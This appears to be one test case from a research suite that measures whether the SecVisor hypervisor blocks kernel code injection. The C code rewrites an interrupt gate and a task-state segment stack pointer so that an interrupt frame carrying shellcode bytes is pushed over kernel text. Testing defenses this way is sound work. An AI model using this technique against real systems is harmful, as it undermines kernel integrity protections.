// Row 8. A gate's interrupt stack (IST) led to kernel text: the processor pushes the event's frame, whose RSP field is code, over it.
// Source: a write primitive by the task-state segment; events delivered onto approved frames.
// Ends: natively succeeded; beneath SecVisor restored, tampered.
#include "common/attack.h"
#include <string.h>

__attribute__((noreturn)) static void judge(long before, const u8 *approved, u64 at)
{
	u8 now[CODE_LENGTH];
	long result;

	kread(at, now, sizeof(now));
	if (!memcmp(now, approved, sizeof(now)))
		failed("nothing was written");
	result = victim();
	if (result == MARK)
		succeeded("an interrupt's frame was run as kernel text");
	if (result == before)
		restored("the frame was pushed, but the approved bytes ran");
	failed("the system call returned %ld", result);
}

ATTACK("ist-over-text")
{
	u64 at = symbol(VICTIM), alias = map_physical(physical(at), KERNEL_DATA), code, top = alias + 16;
	struct tables found = tables();
	u8 approved[CODE_LENGTH], gate[16];
	long before = victim(), result;

	if (at % 16)
		failed("%s does not begin at a multiple of 16", VICTIM);
	kread(at, approved, sizeof(approved));
	keep_bytes(at - 256, 320);
	// The gate of the system call for 32-bit programs, at a free vector and on the last stack.
	kread(found.idt + 0x80 * 16, gate, sizeof(gate));
	gate[4] = 7;
	poke_bytes(found.idt + 0x81 * 16, gate, sizeof(gate));
	poke_bytes(found.tss + 0x24 + 6 * 8, &top, 8);
	memcpy(&code, "\xb8\x37\x13\0\0\xc3\x90\x90", 8); // mov eax, 0x1337; ret
	about_to("take an interrupt on a stack that is kernel text");
	__asm__ volatile("mov %%rsp, %%rbx; mov %2, %%rsp; int $0x81; mov %%rbx, %%rsp"
			 : "=a"(result)
			 : "a"(20), "r"(code)
			 : "rbx", "r8", "r9", "r10", "r11", "memory", "cc");
	judge(before, approved, at);
}
